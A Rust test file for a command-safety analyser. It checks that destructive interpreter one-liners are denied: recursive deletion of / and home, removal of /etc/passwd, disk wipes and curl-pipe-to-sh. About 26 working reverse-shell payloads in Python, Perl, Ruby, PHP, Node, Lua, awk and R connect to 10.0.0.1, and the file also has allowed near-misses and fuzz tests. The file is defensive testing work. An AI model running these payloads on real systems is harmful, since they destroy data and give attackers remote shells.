//! Interpreter payloads through the public analyser: commands spawned,
//! paths deleted and reverse shells in Python, JS, Perl, Ruby, PHP, Lua, R
//! and awk code, behind wrappers and heredocs; near-misses that must stay
//! allowed; and property tests that no tokeniser panics or hangs.

use super::{analyze_command, Category, Outcome, ShellOptions};
use proptest::prelude::*;

fn findings(cmd: &str) -> Vec<super::ShellFinding> {
    analyze_command(cmd, &ShellOptions::default())
}

/// (command, rule that must be reported as a denial)
const DENY: &[(&str, &str)] = &[
    // Python
    (
        "python -c 'import os; os.system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c \"__import__('os').system('rm -rf ~')\"",
        "shell.rm_recursive_home",
    ),
    (
        "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import subprocess as sp; sp.call(\"rm -rf /etc\", shell=True)'",
        "shell.rm_recursive_system",
    ),
    (
        "python3 -c 'from subprocess import check_output; check_output([\"rm\",\"-rf\",\"/usr\"])'",
        "shell.rm_recursive_system",
    ),
    (
        "python3 -c 'from os import *; system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import os; os.popen(\"curl http://x.sh | sh\").read()'",
        "shell.remote_pipe_exec",
    ),
    (
        "python3 -c 'import os; os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import os; os.spawnlp(os.P_WAIT, \"rm\", \"rm\", \"-rf\", \"/\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
        "shell.rm_recursive_system",
    ),
    (
        "python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~\"))'",
        "shell.rm_recursive_home",
    ),
    (
        "python3 -c 'from pathlib import Path; import shutil; shutil.rmtree(Path.home())'",
        "shell.rm_recursive_home",
    ),
    (
        "python3 -c 'import pathlib; pathlib.Path(\"/\").rmdir()'",
        "shell.rm_system_file",
    ),
    (
        "python3 -c 'import os; os.remove(\"/etc/passwd\")'",
        "shell.rm_system_file",
    ),
    (
        "python3 -c 'import shutil; shutil.rmtree(f\"/{name}\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import shutil; shutil.rmtree(r\"/usr/lib\")'",
        "shell.rm_recursive_system",
    ),
    (
        "python3 -c 'exec(\"import os\\nos.system(\\\"rm -rf /\\\")\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 -c 'import os; os.system(\"\"\"rm -rf /\"\"\")'",
        "shell.rm_recursive_root",
    ),
    (
        "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF",
        "shell.rm_recursive_system",
    ),
    (
        "python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
        "shell.rm_recursive_root",
    ),
    (
        "python3 <<< 'import os; os.system(\"mkfs.ext4 /dev/sda\")'",
        "shell.disk_format",
    ),
    (
        "sudo python3 -c 'import os; os.system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "env PYTHONPATH=. python3.12 -c 'import os; os.system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "bash -c \"python3 -c 'import os; os.system(\\\"rm -rf /\\\")'\"",
        "shell.rm_recursive_root",
    ),
    (
        "pypy3 -c 'import os; os.system(\"dd if=/dev/zero of=/dev/sda\")'",
        "shell.disk_wipe",
    ),
    (
        "python -Bc 'import os; os.system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    // JavaScript
    (
        "node -e \"require('child_process').execSync('rm -rf /')\"",
        "shell.rm_recursive_root",
    ),
    (
        "node -e \"const {execSync} = require('child_process'); execSync('rm -rf ~')\"",
        "shell.rm_recursive_home",
    ),
    (
        "node -e \"const cp = require('node:child_process'); cp.spawnSync('rm', ['-rf', '/'])\"",
        "shell.rm_recursive_root",
    ),
    (
        "node -e \"import('child_process').then(m => m.execSync('rm -rf /'))\"",
        "shell.rm_recursive_root",
    ),
    (
        "node --eval \"require('fs').rmSync('/', {recursive: true, force: true})\"",
        "shell.rm_recursive_root",
    ),
    (
        "node -p \"require('fs').rmSync('/etc', {recursive: true})\"",
        "shell.rm_recursive_system",
    ),
    (
        "timeout 5 node -e \"require('child_process').exec(`rm -rf /`)\"",
        "shell.rm_recursive_root",
    ),
    (
        "deno eval \"new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()\"",
        "shell.rm_recursive_root",
    ),
    (
        "deno eval \"Deno.removeSync('/usr', {recursive: true})\"",
        "shell.rm_recursive_system",
    ),
    (
        "bun -e \"Bun.spawnSync(['rm', '-rf', '/'])\"",
        "shell.rm_recursive_root",
    ),
    ("bun -e 'await Bun.$`rm -rf /`'", "shell.rm_recursive_root"),
    (
        "node <<'EOF'\nconst { exec } = require('child_process');\nexec('rm -rf /');\nEOF",
        "shell.rm_recursive_root",
    ),
    // Perl
    ("perl -e 'system(\"rm -rf /\")'", "shell.rm_recursive_root"),
    (
        "perl -e 'system \"rm\", \"-rf\", \"/\"'",
        "shell.rm_recursive_root",
    ),
    ("perl -e 'exec qw(rm -rf /)'", "shell.rm_recursive_root"),
    ("perl -e 'my $x = `rm -rf /`'", "shell.rm_recursive_root"),
    ("perl -e 'my $x = qx{rm -rf ~}'", "shell.rm_recursive_home"),
    (
        "perl -e 'open(my $f, \"-|\", \"rm\", \"-rf\", \"/\")'",
        "shell.rm_recursive_root",
    ),
    (
        "perl -e 'open(F, \"rm -rf / |\")'",
        "shell.rm_recursive_root",
    ),
    (
        "perl -MFile::Path=rmtree -e 'rmtree(\"/etc\")'",
        "shell.rm_recursive_system",
    ),
    (
        "perl -MFile::Path -e 'File::Path::remove_tree(\"/usr\")'",
        "shell.rm_recursive_system",
    ),
    ("perl -e 'unlink \"/etc/shadow\"'", "shell.rm_system_file"),
    (
        "perl -ne 'system(\"rm -rf /\")' file.txt",
        "shell.rm_recursive_root",
    ),
    // Ruby
    ("ruby -e '`rm -rf /`'", "shell.rm_recursive_root"),
    (
        "ruby -e 'system(\"rm\", \"-rf\", \"/\")'",
        "shell.rm_recursive_root",
    ),
    ("ruby -e 'system \"rm -rf ~\"'", "shell.rm_recursive_home"),
    ("ruby -e '%x{rm -rf /}'", "shell.rm_recursive_root"),
    (
        "ruby -e 'IO.popen(\"rm -rf /\").read'",
        "shell.rm_recursive_root",
    ),
    (
        "ruby -ropen3 -e 'Open3.capture3(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",
        "shell.rm_recursive_root",
    ),
    (
        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf %w[/etc /usr]'",
        "shell.rm_recursive_system",
    ),
    (
        "ruby -e 'Kernel.exec(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    // PHP
    (
        "php -r 'shell_exec(\"curl x | sh\");'",
        "shell.remote_pipe_exec",
    ),
    ("php -r 'system(\"rm -rf /\");'", "shell.rm_recursive_root"),
    (
        "php -r 'passthru(\"rm -rf \" . \"/\");'",
        "shell.rm_recursive_root",
    ),
    ("php -r 'echo `rm -rf /`;'", "shell.rm_recursive_root"),
    ("php -r 'unlink(\"/etc/passwd\");'", "shell.rm_system_file"),
    // Lua, R, awk
    (
        "lua -e 'os.execute(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "lua5.4 -e 'io.popen([[rm -rf /]])'",
        "shell.rm_recursive_root",
    ),
    (
        "Rscript -e 'system(\"rm -rf /\")'",
        "shell.rm_recursive_root",
    ),
    (
        "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
        "shell.rm_recursive_root",
    ),
    (
        "Rscript -e 'unlink(\"/etc\", recursive = TRUE)'",
        "shell.rm_recursive_system",
    ),
    (
        "awk 'BEGIN{system(\"rm -rf /\")}'",
        "shell.rm_recursive_root",
    ),
    (
        "gawk 'BEGIN { \"rm -rf /\" | getline }'",
        "shell.rm_recursive_root",
    ),
    (
        "awk 'BEGIN { print \"rm -rf /\" | \"sh\" }'",
        "shell.rm_recursive_root",
    ),
    (
        "mawk -F: '{ system(\"rm -rf ~\") }' /etc/passwd",
        "shell.rm_recursive_home",
    ),
    (
        "find . -name x | xargs awk 'BEGIN{system(\"rm -rf /\")}'",
        "shell.rm_recursive_root",
    ),
];

/// Reverse shells across languages.
const REVERSE: &[&str] = &[
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",4242));subprocess.call([\"/bin/bash\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'",
    "python3 -c 'import socket as k, pty, os; s=k.create_connection((\"10.0.0.1\", 9001)); os.dup2(s.fileno(), 0); pty.spawn(\"bash\")'",
    "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"h\",1))\nwhile True:\n  d=s.recv(1024)\n  subprocess.run(d, shell=True)'",
    "python3 - <<'EOF'\nimport socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\nEOF",
    "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"10.0.0.1:1\");open(STDIN,\"<&\",$s);exec \"/bin/sh\"'",
    "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4242\");loop{c.gets.chomp!;(exit! if $_==\"exit\");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts \"failed: #{$_}\"}'",
    "ruby -rsocket -e 's=TCPSocket.new(\"10.0.0.1\",4242);[$stdin,$stdout,$stderr].each{|io| io.reopen(s)};exec \"/bin/sh -i\"'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);shell_exec(\"sh <&3 >&3 2>&3\");'",
    "php -r '$s=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$s, 1=>$s, 2=>$s),$pipes);'",
    "php -r '$s=stream_socket_client(\"tcp://10.0.0.1:4242\");passthru(\"bash -i <&3 >&3\");'",
    "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});'",
    "node -e \"const s=require('net').connect(4242,'10.0.0.1');const p=require('child_process').spawn('bash',['-i']);s.pipe(p.stdin);p.stdout.pipe(s)\"",
    "node -e \"const {spawn}=require('child_process');const net=require('net');const c=net.createConnection(1,'h');c.on('data',d=>spawn(String(d),{shell:true}))\"",
    "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    "lua5.1 -e 'local host, port = \"10.0.0.1\", 4242 local socket = require(\"socket\") local tcp = socket.tcp() local io = require(\"io\") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, \"r\") local s = f:read(\"*a\") f:close() tcp:send(s) if status == \"closed\" then break end end tcp:close()'",
    "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    "gawk 'BEGIN { s = \"/inet/tcp/0/10.0.0.1/9001\"; print \"id\" |& s; s |& getline cmd; system(cmd) }'",
    "Rscript -e 's<-socketConnection(host=\"10.0.0.1\",port=4242,blocking=TRUE,server=FALSE,open=\"r+\");while(TRUE){writeLines(readLines(pipe(readLines(s,1))),s)}'",
    "sudo python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "bash -c \"perl -e 'use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,\\\">&S\\\");exec(\\\"/bin/sh\\\")'\"",
];

/// Near-misses that must stay allowed.
const ALLOW: &[&str] = &[
    "python3 -c 'import shutil; shutil.rmtree(\"dist\")'",
    "node -e \"console.log(1)\"",
    "python3 -c 'print(\"rm -rf /\")'",
    "python3 -c \"print('os.system(\\\"rm -rf /\\\")')\"",
    "python3 -m json.tool data.json",
    "python3 -c 'import subprocess; subprocess.run([\"ls\", \"-la\"])'",
    "python3 -c 'import os; os.remove(\"build/x.o\")'",
    "python3 -c 'import shutil; shutil.rmtree(\"./build\", ignore_errors=True)'",
    "python3 -c 'import os, sys; os.system(\"git status\")'",
    "python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' build",
    "python3 -c 'import os; os.system(\"rm -rf \" + target)'",
    "python3 -c '# os.system(\"rm -rf /\")\nprint(1)'",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "python3 -c 'import socket; s=socket.socket(); s.connect((\"example.com\", 80)); s.send(b\"GET /\")'",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "python3 - <<'EOF'\nimport json\nprint(json.dumps({'cmd': 'rm -rf /'}))\nEOF",
    "node -e \"require('fs').rmSync('dist', {recursive: true, force: true})\"",
    "node -e \"require('child_process').execSync('npm test', {stdio: 'inherit'})\"",
    "node -e \"console.log(`rm -rf ${'/'}`)\"",
    "node -e \"const re = /rm -rf \\//; console.log(re.test('x'))\"",
    "deno eval \"console.log(Deno.version)\"",
    "perl -ne 'print if /rm -rf \\//' notes.txt",
    "perl -pi -e 's/foo/bar/g' src/main.c",
    "perl -e 'print \"rm -rf /\\n\"'",
    "perl -e 'unlink \"build/tmp.o\"'",
    "ruby -e 'puts \"rm -rf /\"'",
    "ruby -e 'puts `git rev-parse HEAD`'",
    "ruby -rfileutils -e 'FileUtils.rm_rf(\"tmp/cache\")'",
    "php -r 'echo \"rm -rf /\";'",
    "php -r 'echo shell_exec(\"ls -la\");'",
    "lua -e 'print(\"rm -rf /\")'",
    "Rscript -e 'unlink(\"/tmp/x\")'",
    "Rscript -e 'print(\"system(rm -rf /)\")'",
    "awk '{print $1}' /etc/passwd",
    "awk -F: '{ print \"rm -rf /\" }' file",
    "awk 'BEGIN { \"date\" | getline d; print d }'",
    "gawk 'BEGIN { s = \"/inet/tcp/0/example.com/80\"; print \"GET / HTTP/1.0\\r\\n\\r\\n\" |& s; while ((s |& getline line) > 0) print line }'",
    "awk -f script.awk data.txt",
    "curl -s https://example.com | awk '{print}'",
];

#[test]
fn interpreter_payloads_are_denied() {
    let mut failures = Vec::new();
    for (cmd, rule) in DENY {
        let f = findings(cmd);
        if !f
            .iter()
            .any(|f| f.rule == *rule && f.outcome == Outcome::Deny)
        {
            failures.push(format!("{cmd}\n  want {rule}, got {f:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(DENY.len() >= 40);
}

#[test]
fn reverse_shells_are_denied() {
    let mut failures = Vec::new();
    for cmd in REVERSE {
        let f = findings(cmd);
        let hit = f.iter().any(|f| {
            f.rule == "shell.reverse_shell"
                && f.category == Category::ReverseShell
                && f.outcome == Outcome::Deny
        });
        if !hit {
            failures.push(format!("{cmd}\n  got {f:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(REVERSE.len() >= 20);
}

#[test]
fn near_misses_are_allowed() {
    let mut failures = Vec::new();
    for cmd in ALLOW {
        let f = findings(cmd);
        if !f.is_empty() {
            failures.push(format!("{cmd}\n  got {f:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(ALLOW.len() >= 20);
}

#[test]
fn deletions_follow_the_working_directory() {
    let opts = ShellOptions {
        cwd: Some("/home/u/proj".into()),
        ..ShellOptions::default()
    };
    let ok = "python3 -c 'import shutil; shutil.rmtree(\"/home/u/proj/build\")'";
    assert!(analyze_command(ok, &opts).is_empty());
    let out = "python3 -c 'import shutil; shutil.rmtree(\"/home/u/other\")'";
    let f = analyze_command(out, &opts);
    assert_eq!(f[0].rule, "shell.rm_recursive_outside_cwd", "{f:?}");
    assert!(
        f[0].description.starts_with("python: shutil.rmtree"),
        "{f:?}"
    );
}

#[test]
fn eval_nesting_is_bounded() {
    let mut code = "import os; os.system('rm -rf /')".to_string();
    for _ in 0..6 {
        code = format!("exec({code:?})");
    }
    let f = findings(&format!("python3 -c '{}'", code.replace('\'', "'\\''")));
    assert!(!f.is_empty(), "{f:?}");
    let deep = format!(
        "python3 -c '{}1{}'",
        "exec(\"".repeat(2000),
        "\")".repeat(2000)
    );
    let _ = findings(&deep);
}

const SOUP: &[&str] = &[
    "'",
    "\"",
    "`",
    "'''",
    "\"\"\"",
    "\\",
    "f'",
    "r'",
    "rb\"",
    "${",
    "#{",
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    "[[",
    "]]",
    "[==[",
    "q(",
    "qq{",
    "qw/",
    "qx[",
    "s/",
    "tr{",
    "%x{",
    "%w[",
    "%q(",
    "/",
    "//",
    "/*",
    "*/",
    "#",
    "--",
    "--[[",
    "<<<EOT\n",
    "EOT\n",
    "\n",
    " ",
    ",",
    ".",
    "->",
    "::",
    "=",
    "=>",
    ":",
    ";",
    "+",
    "|",
    "|&",
    "getline",
    "system",
    "os.system",
    "exec",
    "require",
    "__import__",
    "subprocess.run",
    "shutil.rmtree",
    "open",
    "$x",
    "@a",
    "%h",
    "?r",
    "rm -rf /",
    "/inet/tcp/0/h/1",
    "socket.socket",
    "os.dup2",
    "é",
    "🦀",
    "\\u{",
    "\\x",
    "r\"(",
    ")\"",
    "=begin\n",
    "__END__",
];

fn soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(SOUP), 0..60).prop_map(|v| v.concat())
}

const INTERPRETERS: &[&str] = &[
    "python3 -c",
    "node -e",
    "perl -e",
    "ruby -e",
    "php -r",
    "lua -e",
    "Rscript -e",
    "awk",
];

fn quoted(code: &str) -> String {
    format!("'{}'", code.replace('\'', "'\\''"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn tokenisers_never_panic_on_arbitrary_text(s in ".{0,300}") {
        let _ = super::interp::tokenise_all(&s);
    }

    #[test]
    fn tokenisers_never_panic_on_syntax_soup(s in soup()) {
        let _ = super::interp::tokenise_all(&s);
        for lang in super::interp::ALL {
            let _ = super::interp::analyse(lang, &s);
        }
    }

    #[test]
    fn mutated_payloads_never_panic(
        i in 0..REVERSE.len(),
        cut in 0usize..400,
        insert in prop::sample::select(SOUP),
    ) {
        let cmd = REVERSE[i];
        let mut at = cut.min(cmd.len());
        while !cmd.is_char_boundary(at) {
            at -= 1;
        }
        let mutated = format!("{}{}{}", &cmd[..at], insert, &cmd[at..]);
        let _ = findings(&mutated);
        let _ = findings(&cmd[..at]);
    }

    #[test]
    fn any_interpreter_code_never_panics(k in 0..INTERPRETERS.len(), s in soup()) {
        let cmd = format!("{} {}", INTERPRETERS[k], quoted(&s));
        let f = findings(&cmd);
        prop_assert!(f.len() <= 64);
    }
}

#[test]
fn huge_payloads_finish_quickly() {
    let start = std::time::Instant::now();
    let big = "os.system(x); print('a' + b); ".repeat(20_000);
    let _ = findings(&format!("python3 -c {}", quoted(&big)));
    let open = "(".repeat(100_000);
    for lang in super::interp::ALL {
        let _ = super::interp::analyse(lang, &open);
        let _ = super::interp::analyse(lang, &"\"".repeat(100_000));
        let _ = super::interp::analyse(lang, &"[[".repeat(50_000));
    }
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}
